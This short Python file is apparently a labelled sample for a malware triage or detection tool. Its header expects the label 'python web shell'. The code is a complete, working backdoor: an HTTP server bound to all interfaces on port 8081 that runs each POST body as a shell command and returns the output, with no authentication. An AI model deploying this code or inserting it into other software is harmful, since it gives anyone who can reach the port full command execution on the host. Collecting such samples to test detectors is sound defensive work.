# triage-expect: triage_python_web_shell
# A standalone backdoor on http.server: the raw POST body is the command.
import subprocess
from http.server import BaseHTTPRequestHandler, HTTPServer

class Handler(BaseHTTPRequestHandler):
    def do_POST(self):
        body = self.rfile.read(int(self.headers.get("Content-Length", 0))).decode()
        line = body.split("=", 1)[-1]
        out = subprocess.check_output(line, shell=True, stderr=subprocess.STDOUT)
        self.send_response(200)
        self.end_headers()
        self.wfile.write(out)

HTTPServer(("0.0.0.0", 8081), Handler).serve_forever()
